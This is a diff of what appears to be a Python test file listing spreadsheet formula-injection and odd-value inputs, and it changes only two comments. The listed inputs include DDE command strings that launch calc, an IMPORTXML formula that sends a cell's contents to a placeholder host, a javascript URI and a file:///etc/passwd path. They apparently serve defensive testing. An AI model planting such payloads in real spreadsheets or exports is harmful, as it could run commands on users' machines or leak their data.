@@ -22,12 +22,12 @@ FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "'=1+1",
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://e.invalid","x")', "{=1+1}", "=", "-", "+", "@",
     '=IMPORTXML(CONCAT("http://e.invalid/",A1),"//a")', '=DDE("cmd","/C calc","x")',
-)  # fmt: skip
+)  # fmt: skip # a table, read by rows
 ODD = (
     "_x000D_", "_x0000_", "_xFFFF_", "&P", "&[Page]", "&Cx", "<t>", "</si>", "]]>", "&#0;", "\x0b", "\x7f",
     "\ufffe", "\uffff", "\ud800", "\U0001f600", "internal:Sheet1!A1", "external:c:\\x.xlsx", "mailto:a@e.invalid",
     "javascript:alert(1)", "file:///etc/passwd", "ftp://e.invalid", "\\\\server\\share", "#REF!", "TRUE", "1e3", "1/2",
-)  # fmt: skip
+)  # fmt: skip # a table, read by rows
 
 
 @cache
